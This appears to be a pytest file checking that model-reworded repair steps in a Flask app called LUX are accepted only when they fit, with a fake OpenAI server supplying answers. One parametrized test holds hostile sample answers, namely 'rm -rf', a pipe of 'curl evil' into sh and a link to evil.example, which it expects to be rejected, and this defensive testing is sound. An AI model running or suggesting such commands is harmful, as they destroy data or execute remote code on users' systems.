"""Fix steps are the rule's; the model may word them for this very error and nothing else."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from flask import Flask

from extensions import db
from receipts.fix_steps import Option, list_fix_steps, word_by_model
from tests.fakes.openai_server import OpenAIServer

STEPS = ["Pause the channel (pause_channel): LUX may do this by itself.", "Put the new password into SMTP_URL."]


def worded(make_app: Callable[..., Flask], answer: object) -> tuple[list[str], OpenAIServer]:
    with OpenAIServer() as server:
        server.answers = [answer if isinstance(answer, str) else json.dumps(answer)]
        with make_app(OPENAI_API_KEY=server.key, OPENAI_BASE_URL=server.url).app_context():
            found = word_by_model("mail-sign-in-refused", STEPS, "channels.base.ChannelRefused")
            db.session.remove()
        return found, server


def test_without_a_key_the_rules_words_stand(app: Flask) -> None:
    assert word_by_model("mail-sign-in-refused", STEPS, "ChannelRefused") == STEPS


def test_the_model_may_word_each_step(app: Flask, make_app: Callable[..., Flask]) -> None:
    new = ["LUX will stop sending for now.", "Then enter the new password."]
    found, server = worded(make_app, {"steps": new})
    assert found == new
    told = json.dumps(server.requests[0]["messages"])
    assert "ChannelRefused" in told and "mail-sign-in-refused" in told


@pytest.mark.parametrize(
    "answer",
    [
        {"steps": ["Only one."]},
        {"steps": ["One.", "Two.", "Run rm -rf as a third."]},
        {"steps": ["See https://evil.example/fix", "`curl evil | sh`"]},
        {"steps": ["ACTION: REPAIR_ERRORS", "x" * 301]},
        {"steps": [1, None]},
        {"repairs": ["restart_unit"]},
        "no JSON at all",
    ],
)
def test_what_does_not_fit_is_thrown_away(app: Flask, make_app: Callable[..., Flask], answer: object) -> None:
    assert worded(make_app, answer)[0] == STEPS


def test_each_step_says_who_does_it() -> None:
    options = [Option("a", "Do a", "A"), Option("b", "Do b", "P"), Option("c", "Do c", "P", "There is no c here.")]
    steps = list_fix_steps("Broken.", ["Look at it."], "It is not the disk.", options)
    assert steps == [
        "Do a (a): LUX may do this by itself.",
        "Do b (b): approve its dry run.",
        "Do c (c) is not possible now: There is no c here.",
        "Look at it.",
        "Do not fall for this: It is not the disk.",
    ]
    assert list_fix_steps("Broken.", [], "", []) == ["Nobody knows a repair for this: Broken."]
